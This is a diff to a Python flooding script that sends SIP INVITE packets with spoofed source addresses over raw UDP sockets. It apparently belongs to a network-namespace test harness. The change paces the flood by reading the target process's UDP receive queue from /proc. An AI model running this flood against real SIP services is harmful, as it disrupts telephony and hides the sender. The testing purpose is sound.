@@ -1,6 +1,7 @@
 # SPDX-License-Identifier: GPL-2.0-or-later
-"""Sends INVITEs by UDP whose sources are made up: flood.py TARGET USER COUNT. Needs root; runs in the
-namespace of the attacker."""
+"""Sends INVITEs by UDP whose sources are made up: flood.py TARGET USER COUNT [PID]. Needs root; runs in
+the namespace of the attacker. With the process of the target it is as fast as that reads, otherwise
+faster."""
 
 import random
 import socket
@@ -26,12 +27,21 @@ def datagram(target, user, number):
     return header + udp
 
 
-def main(target, user, count):
+def is_waiting(pid):
+    """Whether datagrams wait in a socket for port 5060 of the process's namespace."""
+    with open(f"/proc/{pid}/net/udp", encoding="ascii") as file:
+        rows = [line.split() for line in file.readlines()[1:]]
+    return any(row[1].endswith(":13C4") and not row[4].endswith(":00000000") for row in rows)
+
+
+def main(target, user, count, pid=None):
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     for number in range(int(count)):
         raw.sendto(datagram(target, user, number), (target, 0))
         if number % BATCH == 0:
             time.sleep(PAUSE)
+            while pid and is_waiting(pid):
+                time.sleep(0.001)
 
 
 if __name__ == "__main__":
